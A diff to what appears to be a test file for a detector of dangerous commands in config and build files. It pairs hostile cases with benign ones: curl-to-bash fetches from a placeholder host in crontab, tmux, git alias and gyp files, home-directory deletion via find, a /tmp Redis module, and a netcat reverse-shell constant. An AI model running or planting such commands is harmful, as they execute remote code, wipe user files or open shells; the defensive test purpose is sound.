@@ -10,6 +10,7 @@ NETCAT = '"203.0.113.7", "4444", "-e", "/bin/sh"'
 KUBE = 'users:\n- user:\n    exec:\n      command: "%s"\n      args: [%s]\n'
 APPLE = '<?xml version="1.0"?><plist><array>%s</array></plist>'
 OOZIE = '<?xml version="1.0"?><a><shell><exec>%s</exec>%s</shell></a>'
+FOUND = '<?xml version="1.0"?><Wix><CustomAction ExeCommand="%s"/></Wix>'
 JUPYTEXT = "---\njupyter:\n  jupytext: {a: b}\n---\n```python\n%s\n```\n"
 SWEAVE = "\\documentclass{article}\n\\begin{document}\n<<a>>=\n%s\n@\n"
 BITRISE = "workflows:\n  p:\n    steps:\n    - script@1:\n        inputs:\n        - content: '%s'\n"
@@ -73,6 +74,21 @@ CASES = [
     ("brackets", "a.m4", "esyscmd([rm -rf ~/])\n", "esyscmd([git describe --tags])\n"),
     ("brackets", "binding.gyp", "{'variables': {'a': '<!(rm -rf ~/)'}}", "{'variables': {'a': '<!(node -p 1)'}}"),
     ("a folder of Windows", "a.bat", "rd /s /q %USERPROFILE%\n", "rd /s /q %USERPROFILE%\\.cache\\a\nrd /s /q build\n"),
+    # What a shell is handed behind them, and how Tup and Gnuplot write a pipe.
+    ("handed", "crontab", "*/5 * * * * bash <(curl -s https://x.invalid)\n", "*/5 * * * * bash a.sh <(date)\n"),
+    ("handed", ".tmux.conf", 'set -g a "#(bash <(curl -s https://x.invalid))"\n', 'set -g a "#(bash -c date)"\n'),
+    (
+        "handed",
+        ".gitconfig",
+        '[alias]\n a = "!eval \\"$(curl -s https://x.invalid)\\""\n',
+        '[alias]\n a = "!eval \\"$A\\""\n',
+    ),
+    ("handed", "a.gyp", "{'a': '<!(eval \"$(curl -s https://x.invalid)\")'}", "{'a': '<!(eval \"$(date)\")'}"),
+    ("pipe", "Tupfile", f": |> {PIPE} |> a\n", ": foreach *.c |> gcc -c %f -o %o |> %B.o\n"),
+    ("pipe", "a.gnuplot", f'plot "< {PIPE}"\n', 'plot "< sort a.dat" using 1:2\n'),
+    ("module", "redis.conf", "port 1\nloadmodule /tmp/a.so\n", "port 1\nloadmodule /usr/lib/redis/a.so\n"),
+    ("find", "a.wxs", FOUND % "find ~ -type f -delete", FOUND % "find build -type f -delete"),
+    ("find", "b.py", "c.run('find ~ -type f -delete')\n", "c.run('find build -type f -delete')\n"),
     # Under names that hold data elsewhere.
     ("not data", "book.toml", f'[output.a]\ncommand = "{PIPE}"\n', '[output.a]\ncommand = "mdbook-pdf"\n'),
     ("not data", "bitrise.yml", BITRISE % PIPE, BITRISE % PLAIN),
